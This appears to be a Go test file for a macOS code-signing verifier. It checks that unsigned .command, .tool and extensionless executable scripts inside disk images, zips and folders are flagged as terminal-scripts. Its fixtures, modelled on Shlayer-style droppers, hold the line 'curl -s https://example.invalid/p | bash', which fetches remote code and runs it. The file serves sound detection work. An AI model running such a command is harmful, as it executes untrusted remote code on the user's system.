package verify

import (
	"path/filepath"
	"testing"

	"github.com/shipgate/shipgate/internal/hfsplus"
	"github.com/shipgate/shipgate/internal/machofile"
)

// terminalScript is what Shlayer-style disk images double-click into.
var terminalScript = []byte("#!/bin/bash\ncd \"$(dirname \"$0\")\"\ncurl -s https://example.invalid/p | bash\n")

// TestAttackTerminalScriptOtherFile: a .command or .tool file is a shell
// script Finder runs in Terminal, yet it was an other file: a signed disk
// image holding a valid app beside an unsigned Install.command passed
// `require: valid`, and forbidKinds could not name it. It is a
// terminal-script now, unsigned with a script/terminal note, in a folder,
// a zip archive or a disk image's volume, by name in any case; so is a
// disk image's extensionless executable file starting with "#!", which
// Finder opens in Terminal too.
func TestAttackTerminalScriptOtherFile(t *testing.T) {
	t.Parallel()
	dmg := hfsDMG(t, exampleBundle(t), map[string]hfsplus.BuildFile{
		"Install.command": {Data: terminalScript, Mode: 0o755},
		"Installer":       {Data: terminalScript, Mode: 0o755},
		"README":          {Data: []byte("Drag Example to Applications.\n"), Mode: 0o755},
		"setup.sh":        {Data: terminalScript, Mode: 0o755},
		"notes":           {Data: terminalScript, Mode: 0o644},
	}, false, nil)
	dir := t.TempDir()
	writeTree(t, dir, map[string][]byte{
		"Example.dmg":      dmg,
		"tools/Setup.TOOL": terminalScript,
		"tools.zip":        makeZip(t, []zipEntry{{name: "run.command", data: terminalScript}}),
		"tools/notes.txt":  terminalScript,
	})
	want := []string{"Example.dmg/Install.command", "Example.dmg/Installer", "Example.dmg/README", "tools/Setup.TOOL", "tools.zip/run.command"}
	other := []string{"tools/notes.txt", "Example.dmg/setup.sh", "Example.dmg/notes"}
	for _, tc := range []struct {
		pol *Policy
		sev string
	}{{nil, "warning"}, {requireValid(), "error"}} {
		r := run(t, Options{Policy: tc.pol}, dir)
		if tc.pol != nil && r.Summary.Passed {
			t.Error("require: valid passed")
		}
		for _, p := range want {
			fb := fileByPath(r, filepath.ToSlash(p))
			got := rulesFor(r, p)
			if fb == nil || fb.Kind != KindTerminalScript || !has(got, "note "+string(RuleScriptTerminal)) || !has(got, tc.sev+" "+string(RuleUnsigned)) {
				t.Errorf("%s: %+v, findings %q, want %s, %s and %s %s", p, fb, got, KindTerminalScript, RuleScriptTerminal, tc.sev, RuleUnsigned)
			}
		}
		for _, p := range other {
			if fb := fileByPath(r, p); fb == nil || fb.Kind != KindOther {
				t.Errorf("%s: %+v, want an other file", p, fb)
			}
		}
	}
	pol := &Policy{Rules: []Rule{{Match: []string{"**"}, ForbidKinds: []Kind{KindTerminalScript}}}}
	if err := pol.Validate(); err != nil {
		t.Fatal(err)
	}
	r := run(t, Options{Policy: pol}, dir)
	for _, p := range want {
		if got := rulesFor(r, p); !has(got, "error "+string(RuleForbiddenKind)) {
			t.Errorf("forbidKinds [terminal-script]: %s: findings %q", p, got)
		}
	}
}

// TestTerminalScriptSealedInBundle: a .command an app's CodeResources
// seals is covered by the app's signature: it stays an other file, and
// the app passes `require: valid`.
func TestTerminalScriptSealedInBundle(t *testing.T) {
	t.Parallel()
	p := getFixtures(t).apple
	files := map[string]machofile.BundleFile{"Resources/uninstall.command": {Data: terminalScript, Mode: 0o755}}
	info := machofile.InfoPlist("Tool", "com.example.tool")
	seal := machofile.CodeResources(files, nil)
	spec := p.DeveloperIDSpec("com.example.tool")
	spec.InfoPlist, spec.CodeResources = info, seal
	exe, _, err := machofile.Sign(machofile.Build(machofile.Spec{Seed: 41}), spec)
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	writeTree(t, dir, map[string][]byte{
		"Tool.app/Contents/Info.plist":                   info,
		"Tool.app/Contents/MacOS/Tool":                   exe,
		"Tool.app/Contents/_CodeSignature/CodeResources": seal,
		"Tool.app/Contents/Resources/uninstall.command":  terminalScript,
	})
	r := run(t, Options{Policy: requireValid()}, dir)
	if !r.Summary.Passed {
		t.Errorf("the sealed app failed: %v", errorRules(r))
	}
	if fb := fileByPath(r, "Tool.app/Contents/Resources/uninstall.command"); fb == nil || fb.Kind != KindOther {
		t.Errorf("uninstall.command: %+v", fb)
	}
}

// TestAttackTerminalScriptWithoutShebang: a disk image's extensionless
// file with an execute bit is run in Terminal when double-clicked; one
// holding shell commands without a "#!" line still runs, as the shell
// runs text execve refuses with /bin/sh, yet it was an other file and
// passed `require: valid`. It is a terminal-script now; a binary (a NUL
// byte in its first 128 bytes), an empty file, and a file without an
// execute bit are not.
func TestAttackTerminalScriptWithoutShebang(t *testing.T) {
	t.Parallel()
	dmg := hfsDMG(t, exampleBundle(t), map[string]hfsplus.BuildFile{
		"Installer": {Data: []byte("curl -s https://example.invalid/p | sh\n"), Mode: 0o755},
		"blob":      {Data: []byte("ELF\x00\x01\x02curl -s https://example.invalid/p | sh\n"), Mode: 0o755},
		"empty":     {Data: nil, Mode: 0o755},
		"Notes":     {Data: []byte("curl -s https://example.invalid/p | sh\n"), Mode: 0o644},
	}, false, nil)
	dir := t.TempDir()
	writeTree(t, dir, map[string][]byte{"Example.dmg": dmg})
	r := run(t, Options{Policy: requireValid()}, dir)
	if fb := fileByPath(r, "Example.dmg/Installer"); fb == nil || fb.Kind != KindTerminalScript || !has(rulesFor(r, "Example.dmg/Installer"), "error "+string(RuleUnsigned)) {
		t.Errorf("Installer: %+v, findings %q, want an unsigned %s", fb, rulesFor(r, "Example.dmg/Installer"), KindTerminalScript)
	}
	for _, p := range []string{"Example.dmg/blob", "Example.dmg/empty", "Example.dmg/Notes"} {
		if fb := fileByPath(r, p); fb == nil || fb.Kind != KindOther {
			t.Errorf("%s: %+v, want an other file", p, fb)
		}
	}
}
